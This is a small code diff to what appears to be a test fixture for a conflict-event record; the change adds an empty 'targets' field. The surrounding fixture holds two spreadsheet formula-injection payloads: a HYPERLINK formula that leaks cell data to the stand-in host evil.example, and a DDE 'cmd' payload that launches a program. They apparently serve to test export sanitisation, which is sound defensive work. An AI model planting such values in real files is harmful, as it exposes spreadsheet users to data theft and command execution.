@@ -30,6 +30,7 @@ const EVENT: ConflictEvent = {
   fatalitiesLow: null,
   fatalitiesHigh: null,
   civilianFatalities: null,
+  targets: [],
   notes: '=HYPERLINK("http://evil.example/?leak="&A1,"click")\nsecond line',
   sourceText: "+cmd|' /C calc'!A0",
 };
